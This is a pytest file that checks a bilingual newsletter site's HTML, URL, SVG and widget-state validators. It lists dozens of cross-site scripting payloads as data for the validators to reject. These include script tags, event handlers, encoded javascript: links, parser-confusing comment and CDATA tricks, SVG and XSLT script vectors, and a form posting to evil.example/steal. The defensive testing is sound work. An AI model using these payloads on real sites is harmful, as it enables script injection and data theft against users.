"""Only the site's own scripts: the rules (newsletter/safety.py) and the written-page check (pagecheck.py).

Each attack is a piece of markup that reached a page by some road; the check must
name it. The build-level roads (an issue's raw HTML, {eval-rst}, {raw}, cell
outputs, html_meta, downloads and includes from outside the book) are bad-input
cases in test_bad_input.py; the browser test in test_csp.py shows the policy
blocks what the check would miss.
"""

from __future__ import annotations

import sys

import pytest

from newsletter.safety import raw_html, raw_problem, url_problem

from .conftest import ROOT

sys.path.insert(0, str(ROOT / "_ext"))

from panda_book.postbuild import csp  # noqa: E402
from panda_book.rules import pagecheck  # noqa: E402

PAGE = "issues/001-2025-11.html"
HEAD = ('<!DOCTYPE html><html><head><meta charset="utf-8">'
        '<script src="../_static/panda-lang-init.js" data-pagename="issues/001-2025-11"></script>'
        '<script defer src="../_static/scripts/pydata-sphinx-theme.js?digest=55c2"></script>'
        '<link rel="stylesheet" href="../_static/panda.css"></head><body>')

ATTACKS = {
    "inline script": "<script>alert(1)</script>",
    "inline script, upper case": "<SCRIPT>alert(1)</SCRIPT>",
    "module script": '<script type="module">import("x")</script>',
    "script of another site": '<script src="https://evil.example/x.js"></script>',
    "protocol-relative script": '<script src="//evil.example/x.js"></script>',
    "script of the site not on the list": '<script src="../_static/evil.js"></script>',
    "script outside the site": '<script src="../../x.js"></script>',
    "script in an SVG": "<svg><script>alert(1)</script></svg>",
    "event handler": '<img src="a.png" onerror="alert(1)">',
    "event handler, mixed case": '<p OnMouseOver="alert(1)">x</p>',
    "event handler on an SVG": '<svg onload="alert(1)"></svg>',
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "javascript link with entities": '<a href="&#106;avascript:alert(1)">x</a>',
    "javascript link with a tab": '<a href="java&#9;script:alert(1)">x</a>',
    "javascript link with leading space": '<a href=" \x01javascript:alert(1)">x</a>',
    "vbscript link": '<a href="vbscript:msgbox(1)">x</a>',
    "data URL link": '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "data URL iframe-free image": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "form posting elsewhere": '<form action="https://evil.example/steal"><input name=q></form>',
    "formaction": '<button formaction="javascript:alert(1)">x</button>',
    "meta refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "object": '<object data="x.swf"></object>',
    "embed": '<embed src="x.swf">',
    "style attribute": '<p style="background:url(https://evil.example/track)">x</p>',
    "style element": "<style>body { display: none }</style>",
    "stylesheet of another site": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "SVG animate into a script link": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>',
    "xlink script": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "srcset data": '<img src="a.png" srcset="data:image/png;base64,AA 1x">',
    "comment a browser ends early": '<!--><script src="../_static/panda.js"></script>-->',
    "comment ended by --!>": '<!-- x --!><script src="../_static/panda.js"></script>',
    # (found by an attack helper: html.parser and a browser end these in different places)
    "a CDATA section hiding a refresh": '<div><![CDATA[ x > <meta http-equiv="refresh" content="5;url=/x"> ]]></div>',
    "a data block ended early by the browser": ('<script type="application/vnd.jupyter.widget-view+json">{}'
                                                '</script foo><meta http-equiv="refresh" content="7;url=/x">'
                                                '<p>x</p></script>'),
    "widget meta naming another script": '<meta name="panda-widgets" content="../_static/widgets/x.json '
                                         '../_static/evil.js">',
}


@pytest.mark.parametrize("name", ATTACKS)
def test_the_page_check_names_every_attack(name):
    findings = pagecheck.check_page(PAGE, HEAD + ATTACKS[name] + "</body></html>", csp.own_styles())
    assert findings, name
    assert all(f.page == PAGE and f.line >= 1 for f in findings)


def test_a_page_of_the_sites_own_parts_passes():
    clean = (HEAD + '<a href="../index.html">home</a> <a href="https://www.people.com.cn/">人民网</a>'
             '<a href="mailto:editor@example.org">mail</a><img src="../_images/a.svg" alt="x">'
             '<form action="../search.html" method="get"><input name="q"></form>'
             '<script type="application/vnd.jupyter.widget-view+json">{"model_id": "ab"}</script>'
             '<meta name="panda-widgets" content="../_static/widgets/issues/001-2025-11.json '
             + " ".join(f"../{s}" for s in pagecheck.WIDGET_SCRIPTS) + '"></body></html>')
    assert pagecheck.check_page(PAGE, clean, csp.own_styles()) == []
    # the project's own <style> (the 404 page's) passes, by its text, not because it is there
    (style,) = csp.own_styles()
    assert pagecheck.check_page("404.html", f"<html><head><style>{style}</style></head></html>", csp.own_styles()) == []
    assert pagecheck.check_page("404.html", f"<html><head><style>{style} </style></head></html>", csp.own_styles())


@pytest.mark.parametrize("url", ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "\tjavascript:x", "java\nscript:x",
                                 " \x00javascript:x", "vbscript:x", "data:text/html,x", "file:///etc/passwd"])
def test_addresses_that_run_or_embed_are_refused(url):
    assert url_problem(url)


@pytest.mark.parametrize("url", ["https://www.people.com.cn/", "http://x.org", "mailto:a@b.org", "../data.html",
                                 "002-2025-12.md", "#story-a", "/issues/x.png"])
def test_ordinary_addresses_pass(url):
    assert url_problem(url) is None


@pytest.mark.parametrize("html", ["<br>", "<br/>", "<sup>2</sup>", "H<sub>2</sub>O", "<ruby>剧<rt>jù</rt></ruby>",
                                  "&amp; &#20013; &#x4E2D;"])
def test_inline_html_an_issue_may_hold(html):
    assert raw_problem(html) is None


@pytest.mark.parametrize("html", ["<script>x</script>", "<sup onclick=x>2</sup>", "<br style='x'>", "<!-- x -->",
                                  "<scr\nipt>", "<img src=x>", "<a href=x>y</a>", "<![CDATA[x]]>", "<?php ?>"])
def test_raw_html_an_issue_may_not_hold(html):
    assert raw_problem(html)


def test_the_validator_reads_raw_html_where_myst_does():
    text = ("# {bi}`第1期 | Issue 1`\n\n::::{story} a\n\n:::{zh}\n中文 <b>粗</b>\n:::\n::::\n\n"
            "`<script>` in code is text\n\n```python\n<script>\n```\n\n```{raw} html\n<p>\n```\n\n"
            "<div>\nblock\n</div>\n")
    found = raw_html(text)
    assert [(line, message.split(" (")[0].split(";")[0]) for line, message in found] == [
        (6, "raw HTML <b> is not allowed in an issue"), (6, "raw HTML <b> is not allowed in an issue"), (16, "a {raw} block is not allowed in an issue: it puts text "
                                                            "into the page unchecked or reads other files"),
        (20, "raw HTML <div> is not allowed in an issue")]


WIDGET_ATTACKS = {
    "a module of the site's downloads": {"model_module": "../_downloads/x/evil.js", "state": {}},
    "a view module in the state": {"model_module": "@jupyter-widgets/controls",
                                   "state": {"_view_module": "../_downloads/x/evil.js"}},
    "a <style>": {"model_module": "@jupyter-widgets/controls", "state": {"value": "<style>body{}</style>"}},
    "a meta refresh": {"model_module": "@jupyter-widgets/controls",
                       "state": {"value": '<meta http-equiv="refresh" content="0;url=/x">'}},
    "a handler": {"model_module": "@jupyter-widgets/controls", "state": {"value": "<img src=x onerror=alert(1)>"}},
    "a script address": {"model_module": "@jupyter-widgets/controls", "state": {"value": "<a href=javascript:x>y</a>"}},
    "a script in a srcset": {"model_module": "@jupyter-widgets/controls",
                             "state": {"value": '<picture><source srcset="javascript:x 1x"><img src=a.png></picture>'}},
    "a malformed comment": {"model_module": "@jupyter-widgets/controls", "state": {"value": "<!--><b>x</b>-->"}},
    "a CDATA section": {"model_module": "@jupyter-widgets/controls",
                        "state": {"value": '<b>ok</b><![CDATA[ > <meta http-equiv="refresh" content="9;url=/x"> ]]>'}},
}


SVG_ATTACKS = {
    "a script": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>',
    "a handler": '<svg xmlns="http://www.w3.org/2000/svg"><rect onclick="alert(1)"/></svg>',
    "foreign content": ('<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/'
                        'xhtml"><iframe src="x"/></body></foreignObject></svg>'),
    "a link out": ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
                   '<use xlink:href="https://evil.example/x.svg#a"/></svg>'),
    "an animation into a link": ('<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="href" '
                                 'to="javascript:alert(1)"/></svg>'),
    "a stylesheet import": '<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(https://evil.example/x.css);</style></svg>',
    "not XML": "<svg><script>alert(1)</svg>",
    # the second attack review: XHTML inside an SVG, and an SVG that is an XSLT stylesheet or names one
    "an XHTML refresh": ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml">'
                         '<h:meta http-equiv="refresh" content="0;url=https://evil.example/"/></svg>'),
    "an XHTML form in the metadata": ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml">'
                                      '<metadata><h:form action="https://evil.example/"/></metadata></svg>'),
    "an XSLT stylesheet instruction": ('<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="other.svg"?>'
                                       '<svg xmlns="http://www.w3.org/2000/svg"/>'),
    "an instruction inside": '<svg xmlns="http://www.w3.org/2000/svg"><g><?php echo 1; ?></g></svg>',
    "a literal XSLT stylesheet": ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xsl="http://www.w3.org/1999/XSL/'
                                  'Transform" xsl:version="1.0"><xsl:element name="script">alert(1)</xsl:element>'
                                  '</svg>'),
    "not an SVG at all": '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    "an SVG without the SVG namespace": "<svg><rect/></svg>",
}


@pytest.mark.parametrize("name", SVG_ATTACKS)
def test_an_svg_that_could_run_is_not_published(name):
    from newsletter.safety import svg_problem

    assert svg_problem(SVG_ATTACKS[name])


def test_the_charts_svgs_pass():
    from charts import employment_chart, load_figures
    from newsletter.safety import svg_problem

    pair = employment_chart(load_figures(ROOT / "issues" / "001-2025-11.md"))
    for chart in (pair.zh, pair.en, pair.zh.narrow, pair.en.narrow):
        assert svg_problem(chart.svg) is None


@pytest.mark.parametrize("name", WIDGET_ATTACKS)
def test_the_interactive_views_state_is_checked(name):
    assert pagecheck.check_widget_state({"state": {"m1": WIDGET_ATTACKS[name]}})


def test_the_charts_interactive_view_passes():
    from charts import employment_chart, load_figures

    chart = employment_chart(load_figures(ROOT / "issues" / "001-2025-11.md")).zh.img_tag()  # <picture>, srcset
    state = {"state": {"a": {"model_module": "@jupyter-widgets/controls", "state": {"value": chart}},
                       "b": {"model_module": "@jupyter-widgets/base", "state": {}}}}
    assert pagecheck.check_widget_state(state) == []
